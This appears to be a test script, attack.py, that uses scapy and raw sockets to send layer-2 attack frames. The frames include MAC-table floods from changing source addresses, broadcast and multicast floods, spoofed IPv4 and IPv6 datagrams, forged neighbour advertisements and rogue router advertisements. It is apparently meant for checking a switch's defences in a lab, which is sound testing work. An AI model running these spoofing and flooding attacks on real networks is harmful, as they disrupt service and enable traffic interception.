#!/usr/bin/python3
"""attack.py INTERFACE KIND COUNT: sends frames of a kind, built by scapy.

From 06:00:00:00:00:01:
sources   each from a different address instead, to an unknown address
unknown   to an unknown address
mcast     to a group
bcast     to all
From 02:00:00:00:00:01, station 1, to all:
ip, ip6   datagrams from another station's IP address
own       datagrams from its own address
nd        neighbour advertisements that claim another station's address
ra        router advertisements
"""

import errno
import pathlib
import socket
import struct
import sys
import tempfile
import time

SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
TARGETS = {"sources": "02:ff:ff:ff:ff:01", "unknown": "02:ff:ff:ff:ff:01", "mcast": "01:00:5e:01:02:03", "bcast": "ff:ff:ff:ff:ff:ff"}
STATION = "02:00:00:00:00:01"


def make_frames(folder: pathlib.Path) -> None:
    """Writes the first frame of each kind to a file."""
    # Loading scapy takes more than a second, so the frames are built once.
    from scapy.all import IP, UDP, Ether, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, IPv6, Raw

    packets = {
        "ip": IP(src="10.1.0.2", dst="10.1.0.255") / UDP(sport=9, dport=9),
        "own": IP(src="10.1.0.1", dst="10.1.0.255") / UDP(sport=9, dport=9),
        "ip6": IPv6(src="fe80::2", dst="ff02::1") / UDP(sport=9, dport=9),
        "nd": IPv6(src="fe80::1", dst="ff02::1") / ICMPv6ND_NA(tgt="fe80::2", O=1) / ICMPv6NDOptDstLLAddr(lladdr=STATION),
        "ra": IPv6(src="fe80::1", dst="ff02::1") / ICMPv6ND_RA(),
    }
    frames = {kind: Ether(dst="ff:ff:ff:ff:ff:ff", src=STATION) / packet for kind, packet in packets.items()}
    for kind, target in TARGETS.items():
        frames[kind] = Ether(dst=target, src="06:00:00:00:00:01", type=0x88B5) / Raw(b"\0" * 46)
    folder.mkdir()
    for kind, frame in frames.items():
        (folder / kind).write_bytes(bytes(frame))


def main() -> None:
    """Sends all frames, however long the interface takes."""
    interface, kind, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    folder = pathlib.Path(tempfile.gettempdir()) / "attacks"
    if not folder.exists():
        make_frames(folder)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    # Bypasses the queueing discipline, which would drop frames without an error when it is full.
    out.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    frame = bytearray((folder / kind).read_bytes())
    for number in range(count):
        if kind == "sources":
            frame[8:12] = struct.pack("!I", number + 2)
        while True:
            try:
                out.send(frame)
                break
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
                time.sleep(0.001)


main()
